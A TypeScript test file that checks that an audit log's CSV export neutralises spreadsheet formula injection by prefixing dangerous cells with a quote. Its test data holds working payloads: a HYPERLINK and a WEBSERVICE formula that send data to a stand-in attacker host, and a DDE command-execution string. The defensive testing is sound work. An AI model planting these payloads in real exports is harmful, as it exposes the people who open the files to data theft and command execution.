/**
 * CSV formula injection (OWASP): whatever a caller puts in a purpose, an operation name, a reason or
 * its `sub`, no cell of the CSV export starts with `=`, `+`, `-`, `@`, TAB or CR; such a cell comes
 * out with a leading `'` and otherwise unchanged. The JSON Lines export keeps the values as stored.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { AuditLog } from '../../audit/audit-writer.ts';
import { AuditReader } from '../../audit/audit-reader.ts';
import { CSV_COLUMNS, csvField } from '../../audit/audit-export.ts';
import type { AuditEventInput } from '../../audit/audit-event.ts';
import { BACKENDS } from '../backends.ts';
import { auditTestKeys, openAuditStore, type AuditTestStore } from './audit-fixtures.ts';

const DANGEROUS = /^[=+\-@\t\r]/;

/** RFC 4180 records (quoted fields, doubled quotes, CRLF record ends). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += ch;
  }
  if (field !== '' || record.length > 0) records.push([...record, field]);
  return records;
}

const single = (value: string): string => parseCsv(`${csvField(value)}\r\n`)[0]![0]!;

describe('csvField', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"open")'],
    ['+1+cmd|\' /C calc\'!A0'],
    ['-2+3'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('neutralises %j with a leading quote, the rest unchanged', (value) => {
    const cell = csvField(value);
    expect(cell.startsWith('"\'')).toBe(true);
    expect(single(value)).toBe(`'${value}`);
  });

  it('leaves ordinary cells as they were', () => {
    expect(csvField('grid-inspection')).toBe('grid-inspection');
    expect(csvField('a "quoted", text')).toBe('"a ""quoted"", text"');
    expect(csvField(42)).toBe('42');
    expect(csvField(null)).toBe('');
    expect(csvField(['street_staff'])).toBe('"[""street_staff""]"');
    expect(csvField('x=1')).toBe('x=1');
  });

  it('property: no parsed cell starts a formula, and the value is recoverable', () => {
    const risky = fc.oneof(
      fc.string(),
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string()).map(([a, b]) => a + b),
    );
    fc.assert(
      fc.property(risky, (value) => {
        const parsed = single(value);
        expect(DANGEROUS.test(parsed)).toBe(false);
        expect(parsed).toBe(DANGEROUS.test(value) ? `'${value}` : value);
      }),
      { numRuns: 500 },
    );
  });
});

describe.each(BACKENDS)('CSV export of caller-chosen text on %s', (backend) => {
  const keys = auditTestKeys('csv-injection');
  let store: AuditTestStore;
  let log: AuditLog;
  let reader: AuditReader;
  const at = new Date('2026-03-10T02:00:00Z');
  const malicious = {
    actorSub: '=HYPERLINK("http://evil.example","x")',
    actorOrg: '@org',
    purpose: '+cmd|\' /C calc\'!A0',
    operationName: '-1+1',
    reason: '\t=WEBSERVICE("http://evil.example")',
    requestId: '\r=1+1',
  };

  beforeAll(async () => {
    store = await openAuditStore(backend, 'lianqiao_csv_injection');
    log = await AuditLog.open({
      db: store.db,
      chainId: 'csv-injection',
      signingKey: keys.signingKey,
      subjectKey: keys.subjectKey,
      checkpointEveryMs: 0,
      now: () => at,
    });
    const event: AuditEventInput = {
      time: at,
      durationMs: 3,
      actor: { sub: malicious.actorSub, org: malicious.actorOrg, roles: ['street_staff'] },
      purpose: malicious.purpose,
      operationType: 'query',
      operationName: malicious.operationName,
      operationHash: null,
      fields: ['population.name'],
      decision: 'deny',
      reason: malicious.reason,
      rows: 0,
      subjects: [],
      requestId: malicious.requestId,
    };
    await log.append(event);
    reader = new AuditReader({ db: store.db, subjectKey: keys.subjectKey });
  }, 60_000);

  afterAll(async () => {
    await log?.close();
    await store?.close();
  });

  const collect = async (format: 'csv' | 'jsonl') => {
    let text = '';
    for await (const chunk of reader.exportEvents(new Date('2026-03-01T00:00:00Z'), new Date('2026-04-01T00:00:00Z'), format)) text += chunk;
    return text;
  };

  it('writes each malicious value with a leading quote, and no cell that starts a formula', async () => {
    const records = parseCsv(await collect('csv'));
    expect(records[0]).toEqual(CSV_COLUMNS);
    expect(records).toHaveLength(2);
    const row = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, records[1]![i]!]));
    for (const [column, value] of Object.entries(malicious)) expect(row[column], column).toBe(`'${value}`);
    for (const cell of records.flat()) expect(DANGEROUS.test(cell), cell).toBe(false);
  });

  it('keeps the stored values unchanged in JSON Lines', async () => {
    const [line] = (await collect('jsonl')).trimEnd().split('\n');
    expect(JSON.parse(line!)).toMatchObject(malicious);
  });
});
